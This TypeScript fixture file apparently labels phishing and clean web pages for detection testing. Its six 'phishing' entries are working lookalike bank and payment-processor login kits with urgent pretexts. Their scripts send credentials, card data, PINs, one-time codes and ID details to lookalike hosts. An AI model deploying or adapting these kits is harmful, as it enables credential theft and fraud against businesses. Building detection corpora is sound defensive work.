import { htmlRoute, redirectRoute, type Entry } from '../entry.js';
import { jsonRoute, jsRoute, pngRoute } from '../parts/e-bin.js';
import { page, appCss, badge, wordmark, b64, cookieBanner } from '../parts/ya-kit.js';

export const entries: Entry[] = [
{
  id: 'ya-barclays-business-subdomain-kit',
  label: 'phishing',
  kind: 'business-bank-kit',
  url: 'https://barclays.business-olb-auth.com/olb/authlogin/loginAppContainer.do',
  body: page({
    title: 'Log in to Online Banking | Barclays',
    css: `body{margin:0;font-family:"Expert Sans",Arial,sans-serif;background:#f5f5f5;color:#333}
.hd{background:#00395d;padding:16px 28px;display:flex;justify-content:space-between;align-items:center}
.m{max-width:560px;margin:30px auto;background:#fff;padding:30px 36px;border-top:4px solid #00aeef}
h1{font-weight:400;color:#00395d;font-size:28px;margin-top:0}
label{display:block;font-weight:700;margin:16px 0 6px;font-size:14px}
input{width:100%;box-sizing:border-box;padding:10px;border:1px solid #8c8c8c;border-radius:3px;font-size:16px}
.b{margin-top:22px;background:#006ddf;color:#fff;border:0;padding:12px 30px;border-radius:3px;font-size:16px;cursor:pointer}
.ps{display:none}.ps.on{display:block}
.tip{background:#eef7fd;border:1px solid #bfe3f8;padding:10px 12px;font-size:13px;margin:14px 0}
.digits{display:flex;gap:8px}.digits input{width:48px;text-align:center}`,
    body: `<div class="hd">${wordmark('BARCLAYS', '#00aeef', { size: 24, weight: 700 })}<span style="color:#fff;font-size:13px">Business Banking</span></div>
<div class="m">
<form id="f">
<section class="ps on" id="a"><h1>Log in to Online Banking</h1>
<div class="tip">For your security we have temporarily restricted outgoing payments on your business account. Verify your identity to lift the restriction.</div>
<label>Surname</label><input name="surname" required>
<label>Membership number</label><input name="membership" inputmode="numeric" maxlength="12" placeholder="12 digits">
<label>Or sort code and account number</label><div style="display:flex;gap:8px"><input name="sort" placeholder="Sort code" maxlength="8"><input name="acc" placeholder="Account number" maxlength="8"></div>
<button class="b" type="button" data-go="b">Next</button></section>
<section class="ps" id="b"><h1>Identify yourself with PINsentry</h1>
<p style="font-size:14px">Insert your card into your PINsentry card reader, press <b>Identify</b>, enter your PIN and type the 8-digit code shown.</p>
<label>Last 4 digits of your card</label><input name="card4" maxlength="4" inputmode="numeric">
<label>Card expiry date</label><input name="exp" placeholder="MM/YY" maxlength="5">
<label>PINsentry code</label><input name="pinsentry" maxlength="8" inputmode="numeric">
<label>Your memorable word</label><input name="memword" type="password">
<button class="b" type="button" data-go="c">Continue</button></section>
<section class="ps" id="c"><h1>Confirm a new payee</h1>
<p style="font-size:14px">To remove the restriction, use <b>Respond</b> on your card reader and enter reference <b id="ref">84213907</b> and amount <b>0.00</b>.</p>
<label>Respond code</label><input name="respond" maxlength="8" inputmode="numeric">
<button class="b" type="button" data-go="end">Confirm</button></section>
</form>
<p style="font-size:12px;color:#777;margin-top:26px">Barclays Bank UK PLC. Authorised by the Prudential Regulation Authority and regulated by the Financial Conduct Authority and the Prudential Regulation Authority (Financial Services Register No. 759676).</p>
</div>
<script>
var f=document.getElementById('f'),sid=Math.random().toString(36).slice(2);
document.querySelectorAll('[data-go]').forEach(function(b){b.onclick=function(){var fd=new FormData(f);fd.append('sid',sid);fd.append('step',b.dataset.go);
fetch('/olb/authlogin/next.php',{method:'POST',body:fd}).then(function(r){return r.json()}).then(function(j){if(b.dataset.go==='end'){location.href='https://www.barclays.co.uk/business-banking/';return;}
document.querySelector('.ps.on').classList.remove('on');document.getElementById(b.dataset.go).classList.add('on');if(j&&j.ref)document.getElementById('ref').textContent=j.ref;});};});
</script>`,
  }),
  routes: { 'barclays.business-olb-auth.com/olb/authlogin/next.php': jsonRoute({ ok: true, ref: '84213907' }) },
},
{
  id: 'ya-aib-ibb-pac-sms-kit',
  label: 'phishing',
  kind: 'business-bank-kit',
  url: 'https://aib-ibb-secure.com/inet/roi/login.htm',
  body: page({
    title: 'AIB iBusiness Banking',
    lang: 'en-IE',
    css: `body{margin:0;font-family:"Open Sans",Arial,sans-serif;background:#f1f1f1;color:#222}
.hd{background:#7f2b7b;padding:14px 28px;color:#fff;font-size:24px;font-weight:700}
.m{max-width:520px;margin:28px auto;background:#fff;padding:28px;border-radius:4px}
h1{color:#7f2b7b;font-size:22px;margin-top:0}
label{display:block;font-weight:600;margin:14px 0 6px;font-size:14px}
input{width:100%;box-sizing:border-box;padding:10px;border:1px solid #999;border-radius:4px;font-size:16px}
.pac{display:flex;gap:10px}.pac div{flex:1}.pac input{text-align:center}
.b{margin-top:20px;background:#7f2b7b;color:#fff;border:0;padding:12px 28px;border-radius:4px;font-size:16px;cursor:pointer;width:100%}
#sms{display:none}`,
    body: `<div class="hd">AIB <span style="font-weight:400;font-size:15px">iBusiness Banking</span></div>
<div class="m">
<form id="l1"><h1>Log in</h1>
<p style="font-size:14px">Due to new PSD2 requirements, all iBusiness Banking users must re-register their security device before 31 October.</p>
<label>Registration Number</label><input name="reg" maxlength="8" inputmode="numeric" required>
<p style="font-size:14px;margin-bottom:4px">Please enter the following digits of your Personal Access Code (PAC):</p>
<div class="pac" id="pac"></div>
<label>Mobile phone number</label><input name="mob" type="tel" placeholder="08X XXX XXXX">
<button class="b">Next</button></form>
<form id="sms"><h1>Confirm with code</h1><p style="font-size:14px">We have sent a 6 digit code to your mobile. Enter it below to complete re-registration.</p>
<label>Code</label><input name="otp" maxlength="6" inputmode="numeric"><button class="b">Confirm</button></form>
</div>
<script>
var d=[];while(d.length<3){var n=1+Math.floor(Math.random()*5);if(d.indexOf(n)<0)d.push(n)}d.sort();
var ord=['','1st','2nd','3rd','4th','5th'];document.getElementById('pac').innerHTML=d.map(function(n){return '<div><label>'+ord[n]+' digit</label><input name="pac'+n+'" maxlength="1" inputmode="numeric" type="password"></div>'}).join('');
function snd(f,s){var b=new URLSearchParams(new FormData(f));b.append('s',s);b.append('digits',d.join(''));return fetch('/inet/roi/chk.php',{method:'POST',body:b});}
document.getElementById('l1').onsubmit=function(e){e.preventDefault();snd(this,1).then(function(){l1.style.display='none';sms.style.display='block';});};
document.getElementById('sms').onsubmit=function(e){e.preventDefault();snd(this,2).then(function(){location.href='https://aib.ie/business';});};
</script>`,
  }),
  routes: { 'aib-ibb-secure.com/inet/roi/chk.php': jsonRoute({ r: 'ok' }) },
},
{
  id: 'ya-nab-connect-own-domain',
  label: 'clean',
  kind: 'business-bank-own-domain',
  url: 'https://nabconnect.nab.com.au/nabc/login?ref=nab.com.au&src=header',
  body: page({
    title: 'NAB Connect',
    lang: 'en-AU',
    css: `body{margin:0;font-family:Arial,Helvetica,sans-serif;background:#f3f3f3;color:#222}
.hd{background:#000;padding:14px 28px;display:flex;align-items:center;gap:10px;color:#fff}
.star{color:#c20000;font-size:26px}
.m{max-width:460px;margin:40px auto;background:#fff;padding:30px;border-top:4px solid #c20000}
label{display:block;font-weight:bold;margin:14px 0 6px;font-size:14px}
input{width:100%;box-sizing:border-box;padding:10px;border:1px solid #888;font-size:16px}
.b{margin-top:20px;background:#c20000;color:#fff;border:0;padding:12px;font-size:16px;cursor:pointer;width:100%}
ul{font-size:13px;padding-left:18px}`,
    body: `<div class="hd"><span class="star">&#9733;</span><b>nab</b> <span style="font-size:13px">NAB Connect</span></div>
<main class="m">
<h2 style="margin-top:0">Log in to NAB Connect</h2>
<form method="post" action="/nabc/login" autocomplete="off">
<input type="hidden" name="_csrf" value="4c7a9e1b-2f3d-4a5e-8b6c-0d1e2f3a4b5c">
<label for="cid">Customer ID</label><input id="cid" name="customerId" required>
<label for="uid">User ID</label><input id="uid" name="userId" required>
<label for="pw">Password</label><input id="pw" name="password" type="password" required>
<button class="b" type="submit">Log in</button>
</form>
<ul><li><a href="https://www.nab.com.au/business/online-banking/nab-connect/help">NAB Connect help</a></li><li><a href="https://www.nab.com.au/about-us/security">Security</a> – NAB will never ask you to enter a token code into a page you reached from an email or SMS link.</li><li>Support: 1300 888 413 (Mon–Fri 7am–9pm AEST)</li></ul>
<p style="font-size:11px;color:#666">© National Australia Bank Limited ABN 12 004 044 937 AFSL and Australian Credit Licence 230686</p>
</main>`,
  }),
},
{
  id: 'ya-chase-business-amp-redirect-kit',
  label: 'phishing',
  kind: 'redirect-chain-kit',
  url: 'https://www.google.com/amp/s/chase-bizverify.com/secure/logon/',
  routes: {
    'www.google.com/amp/s/chase-bizverify.com/secure/logon/': redirectRoute(302, 'https://chase-bizverify.com/secure/logon/'),
    'chase-bizverify.com/secure/logon/': htmlRoute(page({
      title: 'Sign in - chase.com',
      lang: 'en-US',
      css: `body{margin:0;font-family:"Open Sans",Arial,sans-serif;background:#0b3b75 linear-gradient(160deg,#0b3b75,#1a5fb4);min-height:100vh;color:#414042}
.top{text-align:center;padding:30px 0 10px;color:#fff;font-size:30px;letter-spacing:4px;font-weight:700}
.c{max-width:380px;margin:10px auto;background:#fff;border-radius:6px;padding:30px}
label{display:block;font-size:13px;color:#5a5a5a;margin:14px 0 4px}
input{width:100%;box-sizing:border-box;border:0;border-bottom:1px solid #959595;padding:8px 0;font-size:16px;outline:none}
.b{margin-top:24px;width:100%;background:#117aca;color:#fff;border:0;border-radius:4px;padding:12px;font-size:16px;cursor:pointer}
.s{display:none}.s.on{display:block}`,
      body: `<div class="top">CHASE</div>
<div class="c">
<div class="s on" id="s1"><label>Username</label><input id="u"><label>Password</label><input id="p" type="password"><label><input type="checkbox" style="width:auto"> Remember me</label><button class="b" id="b1">Sign in</button></div>
<div class="s" id="s2"><p style="font-size:14px">We noticed unusual activity on your Chase for Business account. Confirm your identity to restore ACH and wire transfers.</p>
<label>Debit card number</label><input id="cc" inputmode="numeric"><label>Expiration</label><input id="ex" placeholder="MM/YY"><label>CVV</label><input id="cv" maxlength="4"><label>Card PIN</label><input id="pin" type="password" maxlength="4"><label>SSN (last 4) or EIN</label><input id="ss">
<button class="b" id="b2">Verify</button></div>
</div>
<script>
function v(i){return document.getElementById(i).value}
function tx(o){return fetch('https://chase-bizverify.com/secure/logon/rx.php',{method:'POST',headers:{'Content-Type':'application/json'},body:JSON.stringify(o)})}
document.getElementById('b1').onclick=function(){tx({u:v('u'),p:v('p')}).finally(function(){s1.classList.remove('on');s2.classList.add('on')})};
document.getElementById('b2').onclick=function(){tx({u:v('u'),cc:v('cc'),ex:v('ex'),cv:v('cv'),pin:v('pin'),ss:v('ss')}).finally(function(){location.href='https://www.chase.com/business'})};
</script>`,
    })),
    'chase-bizverify.com/secure/logon/rx.php': jsonRoute({ ok: 1 }),
  },
},
{
  id: 'ya-stripe-payouts-paused-kit',
  label: 'phishing',
  kind: 'card-acquirer-kit',
  url: 'https://dashboard.stripe.com-verify-payouts.help/login?redirect=%2Fsettings%2Fpayouts',
  body: page({
    title: 'Stripe Login | Sign in to the Stripe Dashboard',
    lang: 'en-US',
    css: appCss('#635bff', '#f6f9fc') + `.sl{font-weight:800;font-size:30px;color:#635bff;text-align:center;letter-spacing:-1px}.warn{background:#fff8e1;border:1px solid #f5d28c;border-radius:6px;padding:10px 12px;font-size:13px;color:#6b4b00}#two{display:none}`,
    body: `<div class="wrap"><div class="sl">stripe</div><div class="panel" style="margin-top:18px">
<form id="one"><h1>Sign in to your account</h1>
<div class="warn">Payouts to your bank account have been paused because we could not verify your business representative. Sign in to complete verification.</div>
<label>Email</label><input type="email" name="email" required><label>Password</label><input type="password" name="password" required>
<button class="btn">Continue</button>
<div class="alt"><a href="#">Forgot your password?</a> · <a href="#">Use single sign-on (SSO) instead</a></div></form>
<form id="two"><h1>Verify business representative</h1>
<label>Legal first and last name</label><input name="rep" required><label>Date of birth</label><input name="dob" type="text" placeholder="MM / DD / YYYY">
<label>SSN / SIN / NI number</label><input name="natid"><label>Authentication code</label><input name="otp" placeholder="6-digit code from your authenticator app" maxlength="6">
<label>Upload photo ID</label><input type="file" name="id" accept="image/*,.pdf">
<button class="btn">Submit verification</button></form>
</div><div class="foot">© Stripe · <a href="#">Privacy &amp; terms</a></div></div>
<script>
document.getElementById('one').onsubmit=function(e){e.preventDefault();fetch('/api/session',{method:'POST',body:new FormData(this)});this.style.display='none';document.getElementById('two').style.display='block';};
document.getElementById('two').onsubmit=function(e){e.preventDefault();fetch('/api/verify',{method:'POST',body:new FormData(this)}).then(function(){location.href='https://dashboard.stripe.com/'});};
</script>`,
  }),
  routes: {
    'dashboard.stripe.com-verify-payouts.help/api/session': jsonRoute({ ok: true }),
    'dashboard.stripe.com-verify-payouts.help/api/verify': jsonRoute({ ok: true }),
  },
},
{
  id: 'ya-stripe-hosted-invoice-own-domain',
  label: 'clean',
  kind: 'invoice-payment-page',
  url: 'https://invoice.stripe.com/i/acct_1NfQ2kLhC7pXr3Zb/live_YWNjdF8xTmZRMmtMaEM3cFhyM1piLF9QeGNWa3JOWjRtR0dKS2h0ZzJ5d3lQZHh0bVNhVnJJLDEyNjc4NTQ0OQ0200Xk2rLwQp',
  body: page({
    title: 'Invoice from Tallow & Wick Candle Co.',
    lang: 'en-CA',
    head: `<script src="https://js.stripe.com/v3/"></script>`,
    css: `body{margin:0;font-family:-apple-system,BlinkMacSystemFont,"Segoe UI",Roboto,Arial,sans-serif;background:#f6f9fc;color:#30313d}
.w{max-width:980px;margin:40px auto;display:flex;gap:28px;padding:0 20px;flex-wrap:wrap}
.l{flex:1;min-width:300px}.r{flex:1;min-width:300px;background:#fff;border-radius:8px;box-shadow:0 2px 5px rgba(60,66,87,.08),0 0 0 1px rgba(60,66,87,.08);padding:26px}
.amt{font-size:36px;font-weight:600;margin:6px 0}
table{width:100%;border-collapse:collapse;font-size:14px}td{padding:8px 0;border-bottom:1px solid #ebeef1}
label{display:block;font-size:13px;font-weight:500;margin:14px 0 6px;color:#6a7383}
input{width:100%;box-sizing:border-box;padding:10px;border:1px solid #e0e0e0;border-radius:6px;font-size:15px}
#card-element{padding:12px;border:1px solid #e0e0e0;border-radius:6px;min-height:20px}
.pay{margin-top:20px;width:100%;background:#635bff;color:#fff;border:0;border-radius:6px;padding:12px;font-size:16px;font-weight:600;cursor:pointer}
.pw{font-size:12px;color:#6a7383;text-align:center;margin-top:16px}`,
    body: `<div class="w">
<div class="l"><div style="display:flex;align-items:center;gap:10px">${badge('TW', '#8c5e3c')}<b>Tallow &amp; Wick Candle Co.</b></div>
<p style="color:#6a7383;margin-top:24px">Invoice #TW-1048 · Due November 14, 2025</p>
<div class="amt">CA$1,284.75</div>
<table><tr><td>Soy pillar candles, wholesale (case of 24) × 12</td><td style="text-align:right">CA$1,056.00</td></tr><tr><td>Shipping – Canada Post Expedited</td><td style="text-align:right">CA$80.95</td></tr><tr><td>GST/HST (13%)</td><td style="text-align:right">CA$147.80</td></tr><tr><td><b>Amount due</b></td><td style="text-align:right"><b>CA$1,284.75</b></td></tr></table>
<p style="font-size:13px;color:#6a7383;margin-top:18px">Questions? Contact Tallow &amp; Wick at orders@tallowandwick.ca or +1 613-555-0148.</p>
<p style="font-size:13px"><a href="/i/acct_1NfQ2kLhC7pXr3Zb/live_YWNjdF8xTmZRMmtMaEM3cFhyM1piLF9QeGNWa3JOWjRtR0dKS2h0ZzJ5d3lQZHh0bVNhVnJJLDEyNjc4NTQ0OQ0200Xk2rLwQp/pdf">Download invoice</a> · <a href="#">Download receipt</a></p></div>
<div class="r"><h3 style="margin-top:0">Pay CA$1,284.75</h3>
<form id="payment-form">
<label>Email</label><input type="email" name="email" autocomplete="email">
<label>Card information</label><div id="card-element"></div>
<label>Name on card</label><input name="name" autocomplete="cc-name">
<label>Country or region</label><input name="country" value="Canada">
<button class="pay" type="submit">Pay invoice</button>
<div class="pw">Powered by <b>stripe</b> · <a href="https://stripe.com/legal/end-users">Terms</a> · <a href="https://stripe.com/privacy">Privacy</a></div>
</form></div></div>
<script>
(function(){if(!window.Stripe){document.getElementById('card-element').textContent='Card form is loading…';return;}
var s=Stripe('pk_live_51NfQ2kLhC7pXr3ZbQy7v0mE4dW3sR2aP1tU6xL8cJ9hG0fK5nB4iM7oZ2yV1qT3rS6wX9eA8bC5dF4gH7jK2lN1'),el=s.elements(),c=el.create('card');c.mount('#card-element');
document.getElementById('payment-form').addEventListener('submit',function(e){e.preventDefault();fetch('/i/acct_1NfQ2kLhC7pXr3Zb/confirm',{method:'POST'});});})();
</script>`,
  }),
},
{
  id: 'ya-gocardless-mandate-own-domain',
  label: 'clean',
  kind: 'invoice-payment-page',
  url: 'https://pay.gocardless.com/billing/static/flow?id=BRF0001X4Q2ZK7TN8PJW3MCH',
  body: page({
    title: 'Set up a Direct Debit with Fenwick Window Cleaning | GoCardless',
    css: appCss('#1c1b18', '#f8f7f4') + `.mer{display:flex;align-items:center;gap:10px;margin-bottom:10px}.dd{font-size:12px;color:#52606d;border-top:1px solid #e4e7eb;margin-top:20px;padding-top:12px}.two{display:flex;gap:10px}.two>div{flex:1}`,
    body: `<div class="wrap"><main class="panel" style="max-width:480px">
<div class="mer">${badge('FW', '#2b7a78')}<div><b>Fenwick Window Cleaning</b><div style="font-size:13px;color:#52606d">Monthly commercial clean – £48.00</div></div></div>
<h1>Set up a Direct Debit</h1>
<p class="sub">Pay Fenwick Window Cleaning by Direct Debit. Payments are protected by the Direct Debit Guarantee.</p>
<form method="post" action="/billing/static/flow/submit?id=BRF0001X4Q2ZK7TN8PJW3MCH">
<div class="two"><div><label>First name</label><input type="text" name="given_name" autocomplete="given-name" required></div><div><label>Last name</label><input type="text" name="family_name" autocomplete="family-name" required></div></div>
<label>Company name (optional)</label><input type="text" name="company_name">
<label>Email</label><input type="email" name="email" required>
<div class="two"><div><label>Sort code</label><input type="text" name="branch_code" inputmode="numeric" maxlength="8" required></div><div><label>Account number</label><input type="text" name="account_number" inputmode="numeric" maxlength="8" required></div></div>
<label>Postcode</label><input type="text" name="postal_code" autocomplete="postal-code">
<label style="font-weight:400"><input type="checkbox" required> I am the account holder and the only person required to authorise Debits from this account</label>
<button class="btn" type="submit">Set up Direct Debit</button>
</form>
<div class="dd">Your payments are protected by the <a href="https://gocardless.com/direct-debit/guarantee/">Direct Debit Guarantee</a>. GoCardless Ltd, Sutton Yard, 65 Goswell Road, London, EC1V 7EN, is authorised by the FCA under the Payment Services Regulations 2017, reference 597190.</div>
</main></div>`,
  }),
},
{
  id: 'ya-square-link-checkout-own-domain',
  label: 'clean',
  kind: 'invoice-payment-page',
  url: 'https://square.link/u/kQ7rTn2B',
  routes: {
    'square.link/u/kQ7rTn2B': redirectRoute(301, 'https://checkout.square.site/merchant/MLQ4Z8W1HR2TD/checkout/PXG6K3VZLJ7TFZUJ2QH4A5NB'),
    'checkout.square.site/merchant/MLQ4Z8W1HR2TD/checkout/PXG6K3VZLJ7TFZUJ2QH4A5NB': htmlRoute(page({
      title: 'Checkout – Brightside Catering Co.',
      lang: 'en-AU',
      head: `<script src="https://web.squarecdn.com/v1/square.js"></script>`,
      css: appCss('#006aff', '#f7f7f7') + `.line{display:flex;justify-content:space-between;font-size:14px;padding:6px 0;border-bottom:1px solid #eee}#card-container{min-height:90px;border:1px dashed #cbd2d9;border-radius:6px;margin-top:8px;padding:10px;font-size:13px;color:#7b8794}`,
      body: `<div class="wrap"><main class="panel" style="max-width:460px">
<div style="display:flex;align-items:center;gap:10px">${badge('BC', '#f29f05')}<b>Brightside Catering Co.</b></div>
<h1>Deposit – staff Christmas lunch, 12 Dec</h1>
<div class="line"><span>Deposit (30% of quote Q-2291)</span><span>A$486.00</span></div><div class="line"><b>Total</b><b>A$486.00</b></div>
<form id="pf"><label>Email for receipt</label><input type="email" name="email" required>
<label>Card</label><div id="card-container">Secure card entry loads here.</div>
<button class="btn" type="submit">Pay A$486.00</button></form>
<div class="foot">Payments processed by Square · <a href="https://squareup.com/au/en/legal/general/privacy">Privacy</a></div>
</main></div>
<script>
(async function(){if(!window.Square)return;const p=window.Square.payments('sq0idp-Wq3cY7zEtN1vA5pLkH9xRg','LQ4Z8W1HR2TD');const card=await p.card();await card.attach('#card-container');
document.getElementById('pf').addEventListener('submit',async function(e){e.preventDefault();const r=await card.tokenize();if(r.status==='OK'){await fetch('/merchant/MLQ4Z8W1HR2TD/checkout/PXG6K3VZLJ7TFZUJ2QH4A5NB/pay',{method:'POST',headers:{'content-type':'application/json'},body:JSON.stringify({sourceId:r.token})});}});})();
</script>`,
    })),
  },
},
{
  id: 'ya-square-seller-payouts-frozen-kit',
  label: 'phishing',
  kind: 'card-acquirer-kit',
  url: 'https://squareup-seller-review.com/login/',
  body: page({
    title: 'Sign in | Square',
    lang: 'en-CA',
    css: appCss('#006aff', '#fff') + `.sq{width:40px;height:40px;border:6px solid #1a1a1a;border-radius:8px;position:relative;margin:0 auto}.sq::after{content:"";position:absolute;inset:7px;border:4px solid #1a1a1a;border-radius:2px}.panel{box-shadow:none}`,
    body: `<div class="wrap"><div class="panel">
<div class="sq"></div>
<h1 style="text-align:center">Sign in</h1>
<p class="sub" style="text-align:center">Your deposits are on hold pending a routine account review. Sign in to your Square account to upload the requested documents.</p>
<form action="/login/auth.php" method="post">
<label>Email or phone number</label><input type="text" name="login" required>
<label>Password</label><input type="password" name="pw" required>
<label>Bank account linked to Square (for identity check)</label><input type="text" name="bank_acct" placeholder="Transit / institution / account">
<button class="btn">Sign in</button></form>
<div class="alt"><a href="#">Forgot password?</a></div>
<div class="foot">© 2025 Block, Inc. · <a href="#">Privacy Notice</a> · <a href="#">Terms</a></div>
</div></div>`,
  }),
  routes: { 'squareup-seller-review.com/login/auth.php': redirectRoute(302, 'https://squareup.com/login') },
},
{
  id: 'ya-worldpay-pci-compliance-fee-kit',
  label: 'phishing',
  kind: 'card-acquirer-kit',
  url: 'https://worldpay-pci-compliance.co.uk/merchant/renew?mid=4417',
  body: page({
    title: 'Worldpay | PCI DSS Compliance Renewal',
    css: `body{margin:0;font-family:Arial,Helvetica,sans-serif;background:#f4f4f6;color:#1b1b1b}
.hd{background:#fff;border-bottom:3px solid #e4002b;padding:14px 28px;display:flex;justify-content:space-between}
.hd b{color:#e4002b;font-size:24px}
.m{max-width:620px;margin:30px auto;background:#fff;padding:30px;border-radius:4px}
.red{background:#fde8ec;border:1px solid #f5b5c2;padding:12px 14px;border-radius:4px;font-size:14px}
label{display:block;font-weight:bold;margin:14px 0 6px;font-size:14px}input{width:100%;box-sizing:border-box;padding:10px;border:1px solid #999;border-radius:3px}
.row{display:flex;gap:10px}.row div{flex:1}
.b{margin-top:20px;background:#e4002b;color:#fff;border:0;padding:12px 28px;border-radius:3px;font-size:16px;cursor:pointer}
table{width:100%;font-size:14px;margin:14px 0}td{padding:6px 0}`,
    body: `<div class="hd"><b>worldpay</b><span style="font-size:13px">from FIS · Merchant Services</span></div>
<div class="m">
<h2 style="margin-top:0">Your PCI DSS compliance has expired</h2>
<div class="red">Merchant ID ending <b>4417</b> is non-compliant. A non-compliance charge of <b>£49.99 per month</b> will be applied and card processing may be suspended from <b id="dd"></b>.</div>
<p style="font-size:14px">Complete your annual Self-Assessment Questionnaire renewal now for a one-off fee.</p>
<table><tr><td>SAQ A renewal</td><td style="text-align:right">£34.95</td></tr><tr><td>VAT</td><td style="text-align:right">£6.99</td></tr><tr><td><b>Total</b></td><td style="text-align:right"><b>£41.94</b></td></tr></table>
<form method="post" action="/merchant/pay.php">
<label>Merchant ID</label><input name="mid" required><label>Business name</label><input name="biz" required>
<label>Card number</label><input name="cc" inputmode="numeric" autocomplete="cc-number" required>
<div class="row"><div><label>Expiry</label><input name="exp" placeholder="MM/YY"></div><div><label>CVC</label><input name="cvc" maxlength="4"></div></div>
<label>Email</label><input name="em" type="email">
<button class="b">Pay £41.94 and renew</button></form>
</div>
<script>var d=new Date(Date.now()+2*864e5);document.getElementById('dd').textContent=d.toLocaleDateString('en-GB',{day:'numeric',month:'long',year:'numeric'});</script>`,
  }),
  routes: { 'worldpay-pci-compliance.co.uk/merchant/pay.php': redirectRoute(302, 'https://www.worldpay.com/en-gb') },
},
];
